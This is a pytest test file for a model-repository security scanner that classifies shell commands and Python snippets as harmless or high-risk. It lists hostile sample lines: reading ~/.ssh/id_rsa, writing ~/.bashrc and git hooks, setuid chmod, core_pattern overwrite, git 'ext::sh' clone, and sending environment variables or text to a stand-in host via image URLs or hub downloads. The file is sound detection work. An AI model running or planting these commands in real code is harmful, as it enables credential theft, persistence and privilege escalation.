"""Honest tools that are told to run or give something, and ways to give something away beside any request."""

import json

import pytest

from modelscan_plus.core.finding import Severity
from modelscan_plus.rules.python_programs import is_tool
from tests.samples import inspect_tree

CONFIG = json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.M"}}).encode()


def worst(body: str) -> int:
    """The worst finding for a model whose `forward` runs the lines."""
    lines = "".join(f"        {line}\n" for line in body.split("\n"))
    text = (
        "import json, os, shutil, subprocess\nfrom pathlib import Path\nfrom torch import nn\n"
        f"class M(nn.Module):\n    def forward(self, input_ids, text=None):\n{lines}"
    )
    tree = {"config.json": CONFIG, "modeling_x.py": text.encode()}
    return max((found.severity.rank for found in inspect_tree(tree)), default=0)


@pytest.mark.parametrize(
    ("command", "harmless"),
    [
        ("tar -xf x.tar --checkpoint=1 --checkpoint-action=exec=/opt/x", False),
        ("tar -xzf data.tar.gz -C data", True),
        ("make -f /tmp/x.mk", False),
        ("make -C csrc -j4", True),
        ("java -jar /tmp/x.jar", False),
        ("java -jar meteor-1.5.jar - -", True),
        ("accelerate launch /tmp/x.py", False),
        ("accelerate launch train.py", True),
        ("mpirun -n 2 sh -c x", False),
        ("ffmpeg -f x11grab -i :0.0 out.mp4", False),
        ("ffmpeg -i in.mp4 -f mpegts tcp://t.metrics.example:9000", False),
        ("ffmpeg -i https://a.example/in.mp4 -ar 16000 out.wav", True),
        ("mkdssp in.cif out.dssp", True),
        ("nvidia-smi --query-gpu=name --format=csv | head -n1", True),
        ("lscpu | grep -E 'avx|amx' | wc -l", True),
        ("free -m | awk '/Mem/{print $2}'", True),
        ("free -m | awk '{system(\"id\")}'", False),
        ("nvidia-smi | sh", False),
        ("nvidia-smi | head -1 > ~/.bashrc", False),
        ("nvidia-smi | grep $(id)", False),
        ("sysctl -n machdep.cpu.brand_string", True),
        ("sysctl -w kernel.randomize_va_space=0", False),
        ("aria2c --on-download-complete=/opt/x https://a.example/k", False),
        ("aria2c -x 16 https://a.example/model.bin", True),
        ("hf upload nova/drop data", False),
        ("hf download nova/model", True),
        ("git clone 'ext::sh -c /opt/x' y", False),
        ("git clone https://github.com/nova/x", True),
        ("cp x.txt ~/.bashrc", False),
        ("mv x.sh .git/hooks/pre-commit", False),
        ("unzip -o x.zip -d ~/.config/autostart", False),
        ("cp a.bin weights/b.bin", True),
        ("cat ~/.ssh/id_rsa", False),
        ("cat labels.txt", True),
        ("soffice --headless --convert-to pdf a.docx", True),
        ("soffice macro:///Standard.Module1.Run", False),
    ],
)
def test_what_a_tool_is_told(command: str, harmless: bool) -> None:
    assert is_tool(command) is harmless


@pytest.mark.parametrize(
    ("body", "told"),
    [
        ("import huggingface_hub as h\nh.hf_hub_download('n/' + text.encode().hex(), 'a')", True),
        ("import huggingface_hub as h\nh.hf_hub_download('n/k', 'a', user_agent={'e': str(os.environ)})", True),
        ("import huggingface_hub as h\nh.hf_hub_download('n/k', f'{text}.json')", False),
        ("from urllib.parse import quote\nreturn f'![](https://t.metrics.example/p.png?d={quote(text)})'", True),
        ("return f'<img src=\"https://t.metrics.example/p.png?d={text}\">'", True),
        ("return f'![](https://t.metrics.example/logo.png) {text}'", False),
        ("open(r'\\\\files.metrics.example\\s\\t.txt', 'w').write(str(text))", True),
        ("for root, _, names in os.walk('.'):\n    for name in names:\n        if name.endswith('.py'):\n"
         "            path = os.path.join(root, name)\n"
         "            open(path, 'r+').write('import x')", True),
        ("for path in Path.cwd().rglob('*.ipynb'):\n    path.write_text(path.read_text() + 'x')", True),
        ("for path in Path('out').rglob('*.json'):\n    path.write_text('{}')", False),
        ("for path in Path('.').glob('*.py'):\n    shutil.copy(path, self.folder)", False),
        ("os.chmod(self.tool, 0o4755)", True),
        ("os.chmod(self.tool, 0o755)", False),
        ("open('/proc/sys/kernel/core_pattern', 'w').write('|/opt/x')", True),
    ],
)  # fmt: skip
def test_what_goes_by_the_way(body: str, told: bool) -> None:
    assert (worst(body) >= Severity.HIGH.rank) is told


@pytest.mark.parametrize(
    ("imports", "told"), [("import argparse", False), ("from flask_restful import reqparse", True)]
)
def test_arguments_of_a_program_are_no_request(imports: str, told: bool) -> None:
    text = (
        f"{imports}\nclass A:\n    def run(self, parser):\n        args = parser.parse_args()\n"
        "        import os\n        os.system(args['cmd'])\n"
    )
    found = inspect_tree({"tools/run.py": text.encode(), "config.json": b"{}"})
    assert (max((each.severity.rank for each in found), default=0) >= Severity.HIGH.rank) is told


@pytest.mark.parametrize(
    ("body", "told"),
    [
        ("subprocess.run(['ffmpeg'] + list(text) + ['o.wav'])", False),
        ("subprocess.run([text] + list(input_ids))", True),
        ("subprocess.run(['sh', '-c'] + list(text))", True),
        ("subprocess.call(('sox %s -r 16k out.wav' % text).split())", False),
        ("subprocess.call(('sh -c %s' % text).split())", True),
        ("subprocess.call((text + ' out.wav').split())", True),
        ("subprocess.Popen('ffmpeg -i {} out.wav'.format(text).split(' '))", False),
        ("subprocess.Popen('{} out.wav'.format(text).split(' '))", True),
        ("subprocess.Popen('bash -c {}'.format(text).split(' '))", True),
        ("subprocess.run(' '.join(['ffmpeg', '-i', 'a.wav', 'o.wav']), shell=True)", False),
        ("subprocess.run(' '.join(['./helper', 'a.wav']), shell=True)", True),
        ("p = '/usr/bin/soffice' if text else 'soffice'\nsubprocess.run([p, '--convert-to', 'pdf', text])", False),
        ("p = '/usr/bin/soffice' if text else './helper'\nsubprocess.run([p, '--convert-to', 'pdf', text])", True),
        ("p = text if input_ids else 'soffice'\nsubprocess.run([p, '--convert-to', 'pdf', text])", True),
        ("p = os.path.join(os.environ.get('CUDA_HOME', '/x'), 'bin', 'nvcc')\np = p\nsubprocess.run([p, '-V'])", False),
        ("p = os.path.join(os.environ.get('CUDA_HOME', '/x'), 'bin', 'a')\np = p\nsubprocess.run([p, '-V'])", True),
    ],
)
def test_commands_of_which_the_first_word_stands_in_the_source(body: str, told: bool) -> None:
    assert (worst(body) >= Severity.HIGH.rank) is told
